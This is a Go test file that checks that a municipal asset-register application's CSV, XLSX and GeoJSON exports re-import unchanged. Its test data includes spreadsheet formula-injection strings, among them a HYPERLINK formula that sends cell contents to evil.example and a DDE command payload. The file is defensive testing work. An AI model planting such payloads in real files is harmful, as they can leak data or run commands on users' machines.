package exchange_test

import (
	"context"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/paulmach/orb"

	"cityledger/domain"
	"cityledger/domain/demo"
	"cityledger/domain/exchange"
	"cityledger/domain/i18n"
	"cityledger/domain/storage"
)

func openDemoStore(t testing.TB) *storage.DB {
	t.Helper()
	db, err := storage.Open(context.Background(), filepath.Join(t.TempDir(), "t.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

// hostileNotes are values an export must carry back unchanged: formulas a
// spreadsheet would run, apostrophes, a negative number, line breaks, a tab.
var hostileNotes = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "-12.5",
	"'=already quoted", "''@twice", "第一行\n第二行", "a\tb", "=1+1\r\n续", "普通备注",
}

// TestEveryExportReimportsToTheSameRegisters exports every register of the
// demo district (ledgerctl demo), with hostile notes added, in every format,
// imports each file into an empty database and compares the registers field by
// field (issue 10, cases 9 and 16).
func TestEveryExportReimportsToTheSameRegisters(t *testing.T) {
	ctx := context.Background()
	src := openDemoStore(t)
	if _, err := demo.Load(ctx, src); err != nil {
		t.Fatal(domain.Message(i18n.EN, err))
	}
	addHostileNotes(t, src)
	want := registers(t, src)
	for _, format := range []string{exchange.FormatCSV, exchange.FormatXLSX, exchange.FormatGeoJSON} {
		t.Run(format, func(t *testing.T) {
			dst := openDemoStore(t)
			dir := t.TempDir()
			cat := domain.BuiltinCatalogue()
			for _, k := range exchange.Kinds(cat) {
				l, _ := exchange.LayoutOf(cat, k)
				path := filepath.Join(dir, string(k)+"."+format)
				f, err := os.Create(path)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := exchange.Export(ctx, src, k, f, exchange.ExportOptions{Format: format}); err != nil {
					t.Fatal(err)
				}
				f.Close()
				src, err := exchange.Open(path, exchange.ReadOptions{})
				if err != nil {
					t.Fatalf("%s: %s", k, domain.Message(i18n.EN, err))
				}
				_, sum, err := exchange.ImportSource(ctx, dst, l, src, exchange.Options{})
				src.Close()
				if err != nil {
					t.Fatalf("%s: %s", k, domain.Message(i18n.EN, err))
				}
				for _, w := range sum.Warnings {
					// A local 小类 name is a notice the original import gave too, not a
					// sign that the export bent anything.
					if w.Rule != "case_class_not_national" {
						t.Errorf("%s: warning on re-import: %v", k, w)
					}
				}
			}
			got := registers(t, dst)
			for _, name := range sortedKeys(want) {
				t.Run(name, func(t *testing.T) {
					compareRegister(t, want[name], got[name])
				})
			}
		})
	}
}

// addHostileNotes gives the first records and assets of each class notes a
// spreadsheet would run as formulas.
func addHostileNotes(t *testing.T, store *storage.DB) {
	t.Helper()
	ctx := context.Background()
	var lines []string
	lines = append(lines, "date,work_type,cost,note")
	for i, n := range hostileNotes {
		lines = append(lines, fmt.Sprintf("2020-03-%02d,其他,%d.00,%s", i+1, i+1, csvQuote(n)))
	}
	tab, err := exchange.ReadCSV(strings.NewReader(strings.Join(lines, "\n") + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	records, _ := exchange.LayoutOf(domain.BuiltinCatalogue(), exchange.Maintenance)
	if _, _, err := exchange.Import(ctx, store, records, tab, exchange.Options{}); err != nil {
		t.Fatal(domain.Message(i18n.EN, err))
	}
	// The six registers the demo fills.
	for _, c := range []domain.Class{domain.Vehicles, domain.Lamps, domain.GreenAreas, domain.SewerPipes, domain.SewerFacilities, domain.Roads} {
		assets, err := store.FindAssets(ctx, domain.AssetFilter{Class: c})
		if err != nil || len(assets) == 0 {
			t.Fatalf("%s: %v", c, err)
		}
		b := &domain.Batch{Rows: map[string][]int{}}
		for i := 0; i < len(hostileNotes) && i < len(assets); i++ {
			a := assets[i]
			a.Note = hostileNotes[i]
			b.Assets = append(b.Assets, a)
		}
		if _, err := store.Import(ctx, b); err != nil {
			t.Fatal(domain.Message(i18n.EN, err))
		}
	}
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// register is one register as comparable rows, keyed by the row's natural key.
type register map[string]map[string]any

func registers(t *testing.T, store *storage.DB) map[string]register {
	t.Helper()
	ctx := context.Background()
	out := map[string]register{}
	units, err := store.ListUnits(ctx)
	if err != nil {
		t.Fatal(err)
	}
	unitName := map[int64]string{}
	for _, u := range units {
		unitName[u.ID] = u.ShortName
	}
	out["units"] = register{}
	for _, u := range units {
		out["units"][u.Name] = map[string]any{"name": u.Name, "short": u.ShortName, "parent": unitName[u.ParentID],
			"independent": u.IndependentAccounting}
	}
	assetCode := map[int64]string{}
	// The six registers the demo fills.
	for _, c := range []domain.Class{domain.Vehicles, domain.Lamps, domain.GreenAreas, domain.SewerPipes, domain.SewerFacilities, domain.Roads} {
		assets, err := store.FindAssets(ctx, domain.AssetFilter{Class: c})
		if err != nil {
			t.Fatal(err)
		}
		reg := register{}
		for _, a := range assets {
			assetCode[a.ID] = a.Code
			reg[a.Code] = map[string]any{"unit": unitName[a.UnitID], "status": a.Status, "start": a.StartDate,
				"disposal": a.DisposalDate, "value": a.OriginalValue, "note": a.Note, "kind": a.Kind, "name": a.Name,
				"plate": a.Plate, "body": a.BodyType, "official": a.Official, "road": a.Road, "power": a.PowerW,
				"pole": a.PoleHeightM, "material": a.Material, "diameter": a.DiameterMM, "capacity": a.Capacity,
				"length": a.LengthM, "area": a.AreaM2, "geomLength": a.GeomLengthM, "geomArea": a.GeomAreaM2,
				"geometry": a.Geometry}
		}
		out[string(c)] = reg
	}
	projects, err := store.ListProjects(ctx, 0)
	if err != nil {
		t.Fatal(err)
	}
	projectCode := map[int64]string{}
	out["projects"], out["indicators"] = register{}, register{}
	for _, p := range projects {
		projectCode[p.ID] = p.Code
		key := fmt.Sprintf("%d/%s", p.Year, p.Code)
		out["projects"][key] = map[string]any{"name": p.Name, "unit": unitName[p.UnitID], "function": p.FunctionCode,
			"budget": p.Budget, "fiscal": p.FiscalBudget, "other": p.OtherBudget, "goal": p.Goal, "result": p.Result,
			"problems": p.Problems, "next": p.NextSteps, "summary": p.Summary, "disclosed": p.Disclosed}
		inds, err := store.ListIndicators(ctx, p.ID)
		if err != nil {
			t.Fatal(err)
		}
		for _, in := range inds {
			out["indicators"][fmt.Sprintf("%s/%d", key, in.Position)] = map[string]any{"l1": in.Level1, "l2": in.Level2,
				"l3": in.Level3, "target": in.Target, "actual": in.Actual, "binding": in.Binding}
		}
	}
	recs, err := store.FindRecords(ctx, domain.RecordFilter{})
	if err != nil {
		t.Fatal(err)
	}
	out["maintenance"] = register{}
	seen := map[string]int{}
	for _, r := range recs {
		code := r.AssetCode
		if code == "" {
			code = assetCode[r.AssetID]
		}
		proj := r.ProjectCode
		if proj == "" {
			proj = projectCode[r.ProjectID]
		}
		row := map[string]any{"date": r.Date, "class": r.AssetClass, "asset": code, "project": proj, "funding": r.Funding,
			"work": r.WorkType, "quantity": r.Quantity, "unit": r.QuantityUnit, "cost": r.Cost, "contractor": r.Contractor,
			"note": r.Note}
		key := fmt.Sprint(row["date"], row["class"], row["asset"], row["project"], row["work"], row["cost"], row["note"])
		seen[key]++
		out["maintenance"][fmt.Sprintf("%s#%d", key, seen[key])] = row
	}
	years, err := store.ListYears(ctx)
	if err != nil {
		t.Fatal(err)
	}
	out["year-settings"] = register{}
	for _, y := range years {
		s, err := store.GetYearSettings(ctx, y)
		if domain.ErrorKind(err) == domain.KindNotFound {
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		row := map[string]any{"closed": s.Closed, "notes": s.Notes}
		if s.OfficialPurchaseBudget != nil {
			row["purchase"] = *s.OfficialPurchaseBudget
		}
		if s.OfficialRunningBudget != nil {
			row["running"] = *s.OfficialRunningBudget
		}
		out["year-settings"][fmt.Sprint(y)] = row
	}
	return out
}

func compareRegister(t *testing.T, want, got register) {
	t.Helper()
	if len(want) == 0 {
		t.Fatal("the demo district has no rows here: nothing was compared")
	}
	for _, key := range sortedKeys(want) {
		g, ok := got[key]
		if !ok {
			t.Errorf("%s: missing after the round trip", key)
			continue
		}
		for field, w := range want[key] {
			if !sameValue(w, g[field]) {
				t.Errorf("%s %s: %#v, want %#v", key, field, g[field], w)
			}
		}
	}
	for key := range got {
		if _, ok := want[key]; !ok {
			t.Errorf("%s: appeared in the round trip", key)
		}
	}
}

func sameValue(a, b any) bool {
	switch a := a.(type) {
	case float64:
		b, ok := b.(float64)
		return ok && (a == b || math.Abs(a-b) <= 1e-9*math.Max(math.Abs(a), 1))
	case orb.Geometry:
		bg, _ := b.(orb.Geometry)
		if a == nil || bg == nil {
			return a == nil && bg == nil
		}
		return orb.Equal(a, bg)
	case nil:
		return b == nil
	case map[string]string:
		bm, _ := b.(map[string]string)
		return len(a) == len(bm) && (len(a) == 0 || reflect.DeepEqual(a, bm))
	}
	return reflect.DeepEqual(a, b)
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
